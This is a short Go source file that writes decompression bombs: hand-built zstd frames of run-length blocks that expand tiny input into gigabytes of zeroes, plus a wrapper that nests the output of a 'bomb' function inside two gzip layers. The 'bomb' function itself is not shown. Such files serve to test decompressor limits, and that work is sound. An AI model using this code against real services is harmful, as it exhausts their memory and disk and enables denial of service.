//go:build linux

package main

import (
	"bufio"
	"compress/gzip"
)

// standard writes text and size zeroes, packed as zstd (RFC 8878): each block is four
// bytes that stand for 128 KiB.
func standard(w *bufio.Writer, text string, size int) {
	const (
		most          = 128 << 10
		last          = 1
		plain, repeat = 0 << 1, 1 << 1
	)
	block := func(header int) {
		_, _ = w.Write([]byte{byte(header), byte(header >> 8), byte(header >> 16)})
	}
	_, _ = w.WriteString("\x28\xb5\x2f\xfd\x00\x50") // a frame with a window of 1 MiB
	block(len(text)<<3 | plain)
	_, _ = w.WriteString(text)
	for range size / most {
		block(most<<3 | repeat)
		if err := w.WriteByte(0); err != nil {
			return
		}
	}
	block(last)
}

// threefold writes what bomb does, packed twice more.
func threefold(w *bufio.Writer, text string, size int) {
	second := gzip.NewWriter(w)
	first := gzip.NewWriter(second)
	b := bufio.NewWriter(first)
	bomb(b, text, size)
	// Errors come again when w is flushed.
	_ = b.Flush()
	_ = first.Close()
	_ = second.Close()
}
